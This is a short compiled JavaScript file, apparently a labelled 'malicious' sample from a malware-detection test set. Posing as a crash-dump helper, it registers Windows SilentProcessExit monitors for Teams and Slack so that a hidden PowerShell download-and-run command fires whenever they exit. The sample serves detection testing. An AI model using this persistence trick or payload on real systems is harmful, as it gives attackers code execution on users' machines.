// expect: malicious
// when: install
// A crash-dump helper (tsc output) registers a SilentProcessExit monitor for chat apps: Windows then starts the monitor
// command, a hidden PowerShell download-and-run, whenever one exits; the `reg add` is in another file (blind set 26).
"use strict";
const reg_1 = require("./reg");
const SPE = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit';
const REPORTER = 'powershell.exe -NoP -W Hidden -c "iex (iwr -UseBasicParsing http://192.0.2.77/u.ps1)"';
for (const exe of ['Teams.exe', 'slack.exe']) {
    (0, reg_1.regAdd)(`${SPE}\\${exe}`, 'ReportingMode', 'REG_DWORD', 1);
    (0, reg_1.regAdd)(`${SPE}\\${exe}`, 'MonitorProcess', 'REG_SZ', REPORTER);
}
